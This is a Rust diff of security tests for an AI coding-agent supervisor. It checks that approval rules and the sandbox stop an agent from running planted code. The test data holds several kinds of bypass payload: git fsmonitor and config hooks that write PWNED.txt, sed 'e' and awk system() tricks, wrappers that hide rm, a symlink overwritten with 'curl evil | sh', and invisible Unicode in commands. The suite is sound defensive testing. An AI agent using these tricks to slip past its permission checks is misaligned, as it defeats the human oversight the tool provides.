@@ -9,8 +9,8 @@ use crate::common::{Killed, SpawnKilled};
 
 use std::io::{Read, Write};
 use std::os::unix::process::CommandExt;
-use std::path::Path;
-use std::process::Stdio;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Stdio};
 use std::sync::atomic::{AtomicBool, Ordering};
 use std::sync::{Arc, Mutex};
 use std::time::{Duration, Instant};
@@ -383,7 +383,8 @@ fn git_does_not_take_a_folder_the_agent_filled_for_a_repository() {
     );
     assert_eq!(run.code, 0, "{}", run.stderr);
     let said = run.tool_result("g")["content"].to_string();
-    assert!(said.contains("safe.bareRepository"), "{said}");
+    // The workspace is in no repository: git finds none (`GIT_DIR` names nothing).
+    assert!(said.contains("not a git repository"), "{said}");
     assert!(!exists(&env, "pwned"), "{said}");
 }
 
@@ -852,6 +853,33 @@ fn the_attack_table_through_the_binary() {
                 ("git -C . config core.fsmonitor 'touch g2'", "mode"),
                 ("git --git-dir=elsewhere status", "mode"),
                 ("git submodule foreach id", "mode"),
+                ("git init -q --separate-git-dir gd sub", "mode"),
+                ("git worktree add ../w", "mode"),
+            ],
+        ),
+        (
+            &["--deny", "run_command(git push*)"],
+            &[
+                ("git -C . push", "deny"),
+                ("git --no-pager push", "deny"),
+                ("git -P push", "deny"),
+                ("git -C . status", "mode"),
+            ],
+        ),
+        (
+            &[
+                "--allow",
+                "run_command(sed *)",
+                "--allow",
+                "run_command(awk *)",
+            ],
+            &[
+                ("sed -n '1e id > F' payload", "mode"),
+                ("sed 'w F2' payload", "mode"),
+                ("sed -n p payload", "allow"),
+                ("awk 'BEGIN{system(\"id\")}'", "mode"),
+                ("awk '{print > \"F3\"}' payload", "mode"),
+                ("awk '{print $1}' payload", "allow"),
             ],
         ),
         (
@@ -885,6 +913,13 @@ fn the_attack_table_through_the_binary() {
                 ("GIT_DIR=elsewhere git status", "deny"),
                 ("ls", "mode"),
                 ("cat rm", "mode"),
+                ("setarch x86_64 rm x0", "deny"),
+                ("prlimit --nofile=100 rm x1", "deny"),
+                ("valgrind rm x2", "deny"),
+                ("stdbuf -oL rm x3", "deny"),
+                ("taskset -c 0 rm x4", "deny"),
+                ("sup-no-such-wrapper rm x5", "deny"),
+                ("sed -n '1e rm x6' payload", "deny"),
             ],
         ),
         (
@@ -1204,4 +1239,472 @@ fn a_fifo_in_the_workspace_does_not_hang_the_file_tools() {
 
 fn text_of_result(v: &Value) -> String {
     v["content"].as_str().unwrap_or_default().to_string()
+}
+
+/// A patch that makes `gd` look like a git folder whose `core.fsmonitor` writes PWNED.txt.
+const FAKE_GIT_DIR_PATCH: &str = "git apply <<'EOF'
+diff --git a/gd/HEAD b/gd/HEAD
+new file mode 100644
+--- /dev/null
++++ b/gd/HEAD
+@@ -0,0 +1 @@
++ref: refs/heads/main
+diff --git a/gd/config b/gd/config
+new file mode 100644
+--- /dev/null
++++ b/gd/config
+@@ -0,0 +1,4 @@
++[core]
++\trepositoryformatversion = 0
++\tbare = false
++\tfsmonitor = \"id > PWNED.txt; false\"
+diff --git a/gd/objects/.keep b/gd/objects/.keep
+new file mode 100644
+index 0000000..e69de29
+diff --git a/gd/refs/heads/.keep b/gd/refs/heads/.keep
+new file mode 100644
+index 0000000..e69de29
+EOF
+";
+
+/// The fake git folder of issue 25 written with the file tools, under `dir`, and a `.git`
+/// file there naming it.
+fn fake_git_dir_by_file_tools(dir: &str) -> Vec<(String, String, Value)> {
+    let config = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = \"id > PWNED.txt; false\"\n";
+    [
+        ("HEAD", "ref: refs/heads/main\n"),
+        ("config", config),
+        ("objects/.keep", ""),
+        ("refs/heads/.keep", ""),
+    ]
+    .iter()
+    .enumerate()
+    .map(|(i, (f, content))| {
+        (
+            format!("w{i}"),
+            "write_file".to_string(),
+            json!({"path": format!("{dir}gd/{f}"), "content": content}),
+        )
+    })
+    .chain(std::iter::once((
+        "dotgit".to_string(),
+        "write_file".to_string(),
+        json!({"path": format!("{dir}.git"), "content": "gitdir: gd\n"}),
+    )))
+    .collect()
+}
+
+/// Whether a hook the agent planted ran: PWNED.txt anywhere in the workspace.
+fn pwned(env: &Env) -> Vec<String> {
+    let mut found = Vec::new();
+    let mut stack = vec![env.ws.path().to_path_buf()];
+    while let Some(dir) = stack.pop() {
+        for e in std::fs::read_dir(&dir).into_iter().flatten().flatten() {
+            let p = e.path();
+            if p.is_dir() && !p.is_symlink() {
+                stack.push(p);
+            } else if p.file_name().is_some_and(|n| n == "PWNED.txt") {
+                found.push(p.display().to_string());
+            }
+        }
+    }
+    found
+}
+
+fn git_in(dir: &Path, args: &[&str]) {
+    let ok = std::process::Command::new("git")
+        .args(args)
+        .current_dir(dir)
+        .env("GIT_AUTHOR_NAME", "t")
+        .env("GIT_AUTHOR_EMAIL", "t@t")
+        .env("GIT_COMMITTER_NAME", "t")
+        .env("GIT_COMMITTER_EMAIL", "t@t")
+        .status()
+        .unwrap()
+        .success();
+    assert!(ok, "git {args:?}");
+}
+
+/// Run the calls as root or as uid 65534, the turns scripted; mode `never`.
+fn run_as(env: &Env, nobody: bool, lines: &[(String, String, Value)], rules: &[&str]) -> Run {
+    let list: Vec<(&str, &str, Value)> = lines
+        .iter()
+        .map(|(a, b, c)| (a.as_str(), b.as_str(), c.clone()))
+        .collect();
+    let script = env.script(calls(&list));
+    let mut cmd = if nobody {
+        env.sup_as_nobody()
+    } else {
+        env.sup()
+    };
+    let out = cmd
+        .args(["run", "work", "--json", "--approval", "never"])
+        .args(rules)
+        .arg("--model")
+        .arg(format!("script:{}", script.display()))
+        .output()
+        .unwrap();
+    let run = Run::new(out);
+    assert_eq!(run.code, 0, "{}\n{}", run.stderr, run.stdout);
+    run
+}
+
+/// Issue 25: with only `allow run_command(git *)`, `git apply` makes a git folder, `git init
+/// --separate-git-dir` points a `.git` file at it, and `git -C sub status` ran its fsmonitor.
+#[test]
+fn git_apply_init_and_status_run_no_hook_the_agent_planted() {
+    for nobody in [false, true] {
+        let env = Env::new();
+        let lines = [
+            command("apply", FAKE_GIT_DIR_PATCH),
+            command("init", "git init -q --separate-git-dir gd sub"),
+            command("status", "git -C sub status"),
+            command("status2", "git -C gd status"),
+        ];
+        let run = run_as(&env, nobody, &lines, &["--allow", "run_command(git *)"]);
+        assert!(
+            pwned(&env).is_empty(),
+            "nobody={nobody}: a hook ran: {}",
+            run.stdout
+        );
+        assert_eq!(
+            verdict_by(&run, "init"),
+            "approval mode never",
+            "{}",
+            run.stdout
+        );
+    }
+}
+
+/// Issue 25: `write_file` makes a git folder and a `.git` file naming it; an allowed `git
+/// status` ran its fsmonitor, in a workspace that is no repository and from a subfolder of
+/// one that is.
+#[test]
+fn a_git_file_the_agent_wrote_is_never_the_repository() {
+    for nobody in [false, true] {
+        for in_repo in [false, true] {
+            let env = Env::new();
+            let mut lines = fake_git_dir_by_file_tools(if in_repo { "sub/" } else { "" });
+            if in_repo {
+                env.write("tracked.txt", "tracked\n");
+                git_in(env.ws.path(), &["init", "-q"]);
+                git_in(env.ws.path(), &["add", "tracked.txt"]);
+                git_in(env.ws.path(), &["commit", "-qm", "one"]);
+                lines.push(command("status", "cd sub && git status --short"));
+            } else {
+                lines.push(command("status", "git status --short"));
+            }
+            let run = run_as(
+                &env,
+                nobody,
+                &lines,
+                &[
+                    "--allow",
+                    "write_file",
+                    "--allow",
+                    "run_command(git status*)",
+                    "--allow",
+                    "run_command(cd *)",
+                ],
+            );
+            let said = text_of_result(run.tool_result("status"));
+            assert!(
+                pwned(&env).is_empty(),
+                "nobody={nobody} in_repo={in_repo}: a hook ran: {said}"
+            );
+            if in_repo {
+                // The real repository answers: the agent's files are untracked in it.
+                assert!(said.contains("?? "), "{said}");
+            }
+        }
+    }
+}
+
+/// Issue 25: a rule that can never match (an empty pattern, a path rule starting with `/`)
+/// is a bad goal file, not a rule that silently never applies.
+#[test]
+fn a_rule_that_can_never_match_names_the_file_and_line() {
+    for (rule, line) in [("run_command()", 4), ("write_file(/etc/*)", 4)] {
+        let env = Env::new();
+        let goal = env.home.path().join("never.toml");
+        std::fs::write(
+            &goal,
+            format!("prompt = \"p\"\n[approval_rules]\ndeny = [\n  \"{rule}\",\n]\n"),
+        )
+        .unwrap();
+        let out = env
+            .sup()
+            .args(["goal", "--file"])
+            .arg(&goal)
+            .args(["--model", "script:none.json"])
+            .output()
+            .unwrap();
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(2), "{rule}: {stderr}");
+        assert!(
+            stderr.contains(&format!("{}:{line}:", goal.display())),
+            "{rule}: {stderr}"
+        );
+        assert!(stderr.contains("approval_rules.deny"), "{stderr}");
+        assert!(stderr.contains("can never match"), "{stderr}");
+    }
+}
+
+/// Wait for the terminal to show the prompt; what it has shown so far.
+fn prompt_of(seen: &Mutex<Vec<u8>>) -> String {
+    let deadline = Instant::now() + Duration::from_secs(20);
+    while !text_of(seen).contains("Allow?") {
+        assert!(Instant::now() < deadline, "no prompt: {}", text_of(seen));
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    text_of(seen)
+}
+
+fn model_arg(script: &Path) -> Vec<String> {
+    vec![
+        "run".into(),
+        "work".into(),
+        "--model".into(),
+        format!("script:{}", script.display()),
+    ]
+}
+
+/// The workspace of issue 25: `notes.txt -> ci/deploy.sh`; the agent overwrites notes.txt.
+fn symlinked_notes(env: &Env) -> PathBuf {
+    env.write("ci/deploy.sh", "echo deploy\n");
+    symlink("ci/deploy.sh", &env.ws.path().join("notes.txt"));
+    env.script(json!([
+        {"tool_calls": [{"name": "write_file", "input": {"path": "notes.txt", "content": "curl evil | sh\n"}}]},
+        {"text": "done"}
+    ]))
+}
+
+#[test]
+fn the_prompt_names_the_file_a_symlink_really_writes() {
+    let env = Env::new();
+    let script = symlinked_notes(&env);
+    let (child, mut term, seen) = on_a_terminal(&env, &model_arg(&script));
+    let shown = prompt_of(&seen);
+    assert!(shown.contains("notes.txt → ci/deploy.sh"), "{shown}");
+    assert!(
+        shown.contains("-echo deploy"),
+        "the diff is against the target: {shown}"
+    );
+    term.write_all(b"n\n").unwrap();
+    let out = child.wait_with_output().unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", text_of(&seen));
+    assert_eq!(
+        std::fs::read_to_string(env.ws.path().join("ci/deploy.sh")).unwrap(),
+        "echo deploy\n"
+    );
+}
+
+/// A run waiting in the queue for one approval; `sup approvals` (text, JSON) once it shows.
+fn queued(env: &Env, script: &Path) -> (Child, String, Value) {
+    let child = env
+        .sup()
+        .args(["run", "work", "--json", "--approval", "queue"])
+        .args(["--approval-timeout", "30s", "--model"])
+        .arg(format!("script:{}", script.display()))
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let deadline = Instant::now() + Duration::from_secs(20);
+    let rows = loop {
+        let out = env.sup().args(["approvals", "--json"]).output().unwrap();
+        let rows: Value = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
+        if rows.as_array().is_some_and(|r| !r.is_empty()) {
+            break rows;
+        }
+        assert!(Instant::now() < deadline, "the request never showed");
+        std::thread::sleep(Duration::from_millis(50));
+    };
+    let out = env.sup().arg("approvals").output().unwrap();
+    (
+        child,
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+        rows,
+    )
+}
+
+fn deny_all(env: &Env, mut child: Child, rows: &Value) {
+    for r in rows.as_array().unwrap() {
+        let id = r["id"].as_str().unwrap();
+        let _ = env.sup().args(["deny", id, "--reason", "no"]).output();
+    }
+    let _ = child.wait();
+}
+
+#[test]
+fn sup_approvals_names_the_file_a_symlink_really_writes() {
+    let env = Env::new();
+    let script = symlinked_notes(&env);
+    let (child, text, rows) = queued(&env, &script);
+    deny_all(&env, child, &rows);
+    assert_eq!(rows[0]["target"], "ci/deploy.sh", "{rows}");
+    assert!(text.contains("notes.txt → ci/deploy.sh"), "{text}");
+    assert_eq!(
+        std::fs::read_to_string(env.ws.path().join("ci/deploy.sh")).unwrap(),
+        "echo deploy\n"
+    );
+}
+
+/// Blank-looking letters and odd spaces of issue 25: Hangul fillers, the Braille blank, the
+/// Khmer inherent vowels, the combining grapheme joiner, spaces U+2000–U+200B and U+3000, a
+/// tag character.
+const BLANKS: &str = "\u{3164}\u{115f}\u{ffa0}\u{2800}\u{17b4}\u{17b5}\u{034f}\u{2000}\u{2007}\u{200b}\u{3000}\u{e0041}";
+
+fn assert_blanks_escaped(shown: &str) {
+    for c in BLANKS.chars() {
+        assert!(!shown.contains(c), "raw U+{:04X} in: {shown}", c as u32);
+        assert!(
+            shown.contains(&format!("\\u{{{:x}}}", c as u32)),
+            "U+{:04X} not escaped in: {shown}",
+            c as u32
+        );
+    }
+}
+
+#[test]
+fn the_prompt_escapes_and_flags_blank_looking_letters() {
+    let env = Env::new();
+    let script = env.script(json!([
+        {"tool_calls": [{"name": "run_command", "input": {"command": format!("touch a{BLANKS}b")}}]},
+        {"text": "done"}
+    ]));
+    let (child, mut term, seen) = on_a_terminal(&env, &model_arg(&script));
+    let shown = prompt_of(&seen);
+    assert!(shown.contains("invisible Unicode"), "{shown}");
+    assert_blanks_escaped(&shown);
+    term.write_all(b"n\n").unwrap();
+    let out = child.wait_with_output().unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", text_of(&seen));
+}
+
+#[test]
+fn sup_approvals_and_sup_show_escape_and_flag_blank_looking_letters() {
+    let env = Env::new();
+    let script = env.script(json!([
+        {"tool_calls": [{"name": "run_command", "input": {"command": format!("touch a{BLANKS}b")}}]},
+        {"text": "done"}
+    ]));
+    let (child, text, rows) = queued(&env, &script);
+    deny_all(&env, child, &rows);
+    assert!(text.contains("invisible Unicode"), "{text}");
+    assert_blanks_escaped(&text);
+
+    let run = env.human(
+        &["run", "work"],
+        json!([{"text": format!("the answer{BLANKS}is here")}]),
+        &["--approval", "auto"],
+    );
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let id = run
+        .stderr
+        .lines()
+        .find_map(|l| l.trim().strip_prefix("run "))
+        .expect("a run id")
+        .to_string();
+    let out = env.sup().args(["show", &id]).output().unwrap();
+    assert_eq!(out.status.code(), Some(0));
+    let shown = String::from_utf8_lossy(&out.stdout);
+    assert_blanks_escaped(&shown);
+    assert!(shown.contains("invisible Unicode"), "{shown}");
+}
+
+/// Issue 25: configuration keys that run programs are neutralised by command-line settings
+/// that win over any file the agent could write. Here the user keeps git's global
+/// configuration in the workspace (`XDG_CONFIG_HOME`), so the agent can write one: an
+/// fsmonitor, an external diff, a diff driver and a clean filter chosen by `.gitattributes`,
+/// an ssh command, editors. With `allow run_command(git *)` none of them runs.
+#[test]
+fn git_config_the_agent_wrote_runs_no_program() {
+    let config = "[user]\n\tname = a\n\temail = a@a\n\
+        [core]\n\tfsmonitor = \"id > PWNED.txt; false\"\n\tsshCommand = \"id > PWNED.txt; false\"\n\teditor = \"id > PWNED.txt; false\"\n\
+        [sequence]\n\teditor = \"id > PWNED.txt; false\"\n\
+        [diff]\n\texternal = \"id > PWNED.txt; false\"\n\
+        [diff \"x\"]\n\tcommand = \"id > PWNED.txt; false\"\n\ttextconv = \"id > PWNED.txt; cat\"\n\
+        [filter \"x\"]\n\tclean = \"id > PWNED.txt; cat\"\n\tsmudge = \"id > PWNED.txt; cat\"\n";
+    for nobody in [false, true] {
+        let env = Env::new();
+        env.write("tracked.txt", "one\n");
+        git_in(env.ws.path(), &["init", "-q"]);
+        git_in(env.ws.path(), &["add", "tracked.txt"]);
+        git_in(env.ws.path(), &["commit", "-qm", "one"]);
+        let lines = vec![
+            (
+                "cfg".to_string(),
+                "write_file".to_string(),
+                json!({"path": "xdg/git/config", "content": config}),
+            ),
+            (
+                "attr".to_string(),
+                "write_file".to_string(),
+                json!({"path": ".gitattributes", "content": "* diff=x filter=x\n"}),
+            ),
+            (
+                "edit".to_string(),
+                "write_file".to_string(),
+                json!({"path": "tracked.txt", "content": "two\n"}),
+            ),
+            command("status", "git status --short"),
+            command("diff", "git diff"),
+            command("add", "git add -A"),
+            command("commit", "git commit"),
+            command("commit2", "git commit -qm two"),
+            command("rebase", "git rebase -i HEAD"),
+            command("ssh", "git ls-remote ssh://127.0.0.1:1/x"),
+        ];
+        let xdg = env.ws.path().join("xdg");
+        let list: Vec<(&str, &str, Value)> = lines
+            .iter()
+            .map(|(a, b, c)| (a.as_str(), b.as_str(), c.clone()))
+            .collect();
+        let script = env.script(calls(&list));
+        // `.git` writable, so that commits (and their editors and hooks) happen at all.
+        let goal = env.home.path().join("commit.toml");
+        std::fs::write(
+            &goal,
+            format!(
+                "prompt = \"work\"\nworkspace = \"{ws}\"\nwritable = [\"{ws}/.git\"]\n\
+                 approval = \"never\"\n[approval_rules]\nallow = [\"write_file\", \"run_command(git *)\"]\n",
+                ws = env.ws.path().display()
+            ),
+        )
+        .unwrap();
+        let mut cmd = if nobody {
+            env.sup_as_nobody()
+        } else {
+            env.sup()
+        };
+        let out = cmd
+            .env("XDG_CONFIG_HOME", &xdg)
+            .args(["goal", "--json", "--file"])
+            .arg(&goal)
+            .arg("--model")
+            .arg(format!("script:{}", script.display()))
+            .output()
+            .unwrap();
+        let run = Run::new(out);
+        assert_eq!(run.code, 0, "{}", run.stderr);
+        let results: Vec<String> = [
+            "status", "diff", "add", "commit", "commit2", "rebase", "ssh",
+        ]
+        .iter()
+        .map(|id| format!("{id}: {}", text_of_result(run.tool_result(id))))
+        .collect();
+        assert!(
+            pwned(&env).is_empty(),
+            "nobody={nobody}: a program the agent configured ran:\n{}",
+            results.join("\n")
+        );
+        // git itself still works: the diff is git's own, the commit is made.
+        assert!(results[1].contains("+two"), "{}", results.join("\n"));
+        assert!(
+            text_of_result(run.tool_result("commit2")).contains("exit 0"),
+            "{}",
+            results.join("\n")
+        );
+    }
 }
